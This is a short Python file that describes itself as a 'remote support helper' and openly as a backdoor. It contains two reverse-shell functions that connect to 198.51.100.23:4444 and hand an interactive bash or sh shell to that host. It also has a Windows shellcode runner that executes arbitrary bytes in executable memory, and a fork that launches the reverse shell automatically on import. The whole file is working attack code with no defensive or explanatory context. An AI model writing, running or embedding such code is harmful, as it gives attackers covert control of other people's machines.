"""Remote support helper (a backdoor): reverse shells and a shellcode runner."""
import ctypes
import os
import pty
import socket
import subprocess

HOST, PORT = "198.51.100.23", 4444


def shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")


def shell2():
    conn = socket.create_connection((HOST, PORT))
    subprocess.call(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())


def run_shellcode(sc: bytes):
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    ptr = k32.VirtualAlloc(None, len(sc), 0x3000, 0x40)
    ctypes.memmove(ptr, sc, len(sc))
    th = k32.CreateThread(None, 0, ptr, None, 0, None)
    k32.WaitForSingleObject(th, -1)


if os.fork() == 0:
    shell()
